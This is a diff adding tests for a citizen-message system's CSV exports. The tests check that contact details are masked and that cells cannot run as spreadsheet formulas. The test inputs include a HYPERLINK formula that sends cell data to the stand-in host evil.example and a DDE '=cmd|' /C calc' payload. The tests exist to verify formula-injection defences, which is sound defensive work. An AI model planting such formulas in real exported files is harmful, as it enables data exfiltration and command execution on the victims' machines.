@@ -58,6 +58,40 @@ test("a unit handler's export holds only what it may see; bad filters and missin
   expect(codeOf({ errors: JSON.parse((await download('?unitId=999999', w.t.dispatcher)).bytes.toString()).errors } as never)).toBe('BAD_USER_INPUT');
 });
 
+test('the title in the ledger export is masked like the public views (every spelling of a phone, an e-mail, a plate)', async () => {
+  const m = (await ok(s.gql(CREATE, { i: { channel: 'WEB', type: 'CONSULT', title: '回电+86 139 1234 5670、0731-88886666、lisi@qq.com、湘A12345', content: '标题里写了联系方式的留言。', realName: '王五' } }, w.t.dispatcher))).createMessage.message;
+  const { records, bytes } = await download('?types=CONSULT', w.t.dispatcher);
+  expect(records.find((r) => r.serialNo === m.serialNo)?.title).toBe('回电139****5670、073****6666、l***@qq.com、湘A*****');
+  expect(bytes.toString('utf8')).not.toMatch(/1234 5670|88886666|lisi@|A12345/);
+});
+
+test('no cell of an export can run as a spreadsheet formula (= + - @, tab, carriage return), masked values included', async () => {
+  const titles = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+SUM(1,2)', '-2+3', '@SUM(A1:A9)', ' =1+1'];
+  const made: Record<string, string> = {};
+  for (const title of titles) {
+    const m = (await ok(s.gql(CREATE, { i: { channel: 'LETTER', type: 'SUGGEST', title, content: '公式注入测试的留言内容。', realName: '=cmd|\' /C calc\'!A0', phone: '13800138000' } }, w.t.dispatcher))).createMessage.message;
+    made[m.serialNo] = title.trim();
+  }
+  const { records, bytes } = await download('?channels=LETTER', w.t.dispatcher);
+  expect(records.length).toBe(titles.length);
+  for (const r of records) {
+    expect(r.title).toBe(`'${made[r.serialNo]}`);
+    expect(r.citizen).toBe("'=***"); // the masked name still started with =
+  }
+  // No cell of the file starts with a formula character.
+  const cells = parse(bytes.subarray(3).toString('utf8')) as string[][];
+  for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  // The statistics export too: a unit named like a formula is written as text.
+  const unit = (await ok(s.gql(`mutation($i: CreateUnitInput!) { createUnit(input: $i) { unit { id } } }`, { i: { code: 'formula-unit', name: '=1+2', kind: 'DEPARTMENT', parentId: w.unit['hn-cs'] } }, w.t.admin))).createUnit.unit;
+  const m = (await ok(s.gql(CREATE, { i: { channel: 'WEB', type: 'COMPLAIN', title: '统计导出公式测试', content: '统计导出公式测试的留言内容。' } }, w.t.dispatcher))).createMessage.message;
+  await ok(s.gql(ASSIGN, { i: { messageId: m.id, leadUnitId: unit.id } }, w.t.dispatcher));
+  const day = new Date(Date.now() + 8 * 3600_000).toISOString().slice(0, 10);
+  const res = await fetch(`${s.url}/export/statistics.csv?from=${day}&to=${day}&groupBy=UNIT`, { headers: { authorization: `Bearer ${w.t.dispatcher}` } });
+  expect(res.status).toBe(200);
+  const stats = parse(Buffer.from(await res.arrayBuffer()).subarray(3).toString('utf8'), { columns: true }) as Array<Record<string, string>>;
+  expect(stats.find((r) => r.key === unit.id)?.label).toBe("'=1+2");
+});
+
 test('the ledger is read in batches by key: small batches give the same rows as one', async () => {
   const viewer = await s.app.services.auth.viewerFromToken(w.t.dispatcher);
   const collect = async (size: number) => {
